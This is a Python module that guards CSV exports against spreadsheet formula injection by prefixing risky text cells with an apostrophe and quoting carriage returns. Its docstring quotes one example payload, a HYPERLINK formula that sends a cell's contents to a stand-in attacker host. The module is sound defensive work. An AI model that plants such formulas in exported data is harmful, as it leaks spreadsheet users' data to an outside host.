"""Spreadsheet-safe cells: the one rule for every CSV (and XLSX) the tool writes.

A spreadsheet evaluates a text cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (a tab
or carriage return in front does not stop some of them), so an exported note such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would run in the reader's spreadsheet. Every such
*text* cell gets a leading apostrophe, which spreadsheets show as nothing and which keeps the cell
text (OWASP's advice for CSV injection). Rows end with CRLF (RFC 4180), so a carriage return inside a
cell is quoted like a line feed is; with bare LF line ends Python's and pandas' CSV writers leave a lone
CR unquoted, and a spreadsheet starts a new row there, where the rest of the cell can be a live
formula. Numbers stay numbers (``-3`` is a number, not text), and
JSON Lines and Parquet exports keep the values exactly as stored: they are read by programs, not
spreadsheets. Imports do not strip the apostrophe.

Pure pandas; no other part of the package.
"""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """Empty for None; text that a spreadsheet would run as a formula gets a leading apostrophe."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def _text_column(column: pd.Series) -> bool:
    return (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)
            or isinstance(column.dtype, pd.CategoricalDtype))


def _safe_text(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` whose text cells and column names are safe to open in a spreadsheet (missing
    values stay missing; numbers, dates and booleans are unchanged)."""
    out = df.copy()
    for name in out.columns:
        column = out[name]
        if _text_column(column):
            if isinstance(column.dtype, pd.CategoricalDtype):
                column = column.astype(object)
            out[name] = column.map(_safe_text)
    out.columns = [_safe_text(c) for c in out.columns]
    return out


LINE_END = "\r\n"


def csv_bytes(df: pd.DataFrame) -> bytes:
    """`df` as UTF-8 CSV bytes with every cell made safe (:func:`safe_frame`) and CRLF row ends."""
    return safe_frame(df).to_csv(index=False, lineterminator=LINE_END).encode("utf-8")
